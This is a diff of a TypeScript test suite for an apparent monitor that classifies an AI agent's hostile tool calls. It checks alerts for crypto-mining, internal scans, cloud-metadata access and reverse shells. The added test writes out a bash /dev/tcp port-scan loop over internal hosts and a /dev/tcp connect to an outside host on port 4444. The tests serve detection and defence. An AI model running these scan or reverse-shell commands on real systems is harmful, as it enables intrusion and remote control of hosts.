@@ -37,9 +37,8 @@ test('the demo episode: each hostile step blocked, zero far-host connections, ri
   const call4 = alerts.filter((a) => a.tool_call === 'demo-call-4');
   assert.deepEqual(categories(call4.filter((a) => a.payload.layer !== 'command')), ['mining'], 'the nohup miner is attributed to the step that started it');
   assert.ok(call4.some((a) => a.payload.layer === 'command' && a.payload.category === 'mining'), 'the miner script was flagged before it ran');
-  // bash /dev/tcp connects are also flagged by the process-layer rule for shells opening sockets
-  assert.ok(by('demo-call-5').includes('internal_probe'), by('demo-call-5').join());
-  assert.deepEqual(by('demo-call-5').filter((c) => c !== 'internal_probe' && c !== 'reverse_shell'), []);
+  // a /dev/tcp scan is a scan: the shell's own connects to the scanned targets are not a reverse shell too
+  assert.deepEqual(by('demo-call-5'), ['internal_probe']);
   assert.deepEqual(by('demo-call-6'), ['metadata_access']);
   assert.deepEqual(by('demo-call-7'), []);
   const scan = alerts.find((a) => a.tool_call === 'demo-call-5' && a.payload.category === 'internal_probe')!;
@@ -196,6 +195,24 @@ test('a bash /dev/tcp reverse shell and a Python socket client to an outside hos
   // (port 4444 is also a common pool port, so a low-confidence mining heuristic may add itself)
   assert.ok(categories(alerts).includes('policy_violation') && categories(alerts).includes('reverse_shell'), categories(alerts).join());
   assert.equal(await fx.far.accepted('203.0.113.10', 22), 0);
+});
+
+test('a shell scanning with /dev/tcp is one internal scan alert; its connect to an outside host is still a reverse shell', async () => {
+  const scan = 'for h in 10.0.0.5 10.0.0.6 10.0.0.7; do for p in 22 80; do (echo > /dev/tcp/$h/$p) 2>/dev/null; done; done';
+  const { alerts } = await oneCall(`${scan}; echo scanned`);
+  assert.deepEqual(categories(alerts), ['internal_probe'], alerts.map((a) => a.payload.message).join('\n'));
+  // the same scan plus one shell connection elsewhere: that one is reported as a reverse shell, alone
+  const mixed = await oneCall(`${scan}; (echo > /dev/tcp/203.0.113.10/4444) 2>/dev/null; echo done`);
+  const shell = mixed.alerts.filter((a) => a.payload.category === 'reverse_shell');
+  assert.equal(shell.length, 1, mixed.alerts.map((a) => a.payload.message).join('\n'));
+  assert.match(shell[0]!.payload.message, /203\.0\.113\.10.4444/);
+  // its evidence holds the shell's one connect outside the scan, none of the scan's
+  const ev = new Set(shell[0]!.payload.evidence);
+  const connects = mixed.s.events.filter((e) => ev.has(e.id) && e.kind === 'connect').map((e) => `${String(e.payload['network.peer.address'])}:${String(e.payload['network.peer.port'])}`);
+  assert.deepEqual(connects, ['203.0.113.10:4444']);
+  // two shell connects inside the scan are too few to call a scan: still a reverse shell
+  const two = await oneCall('for p in 22 80; do (echo > /dev/tcp/10.0.0.5/$p) 2>/dev/null; done; echo two');
+  assert.ok(categories(two.alerts).includes('reverse_shell'), categories(two.alerts).join());
 });
 
 test('DNS lookups of pool names are refused and reported as mining; metadata names too', async () => {
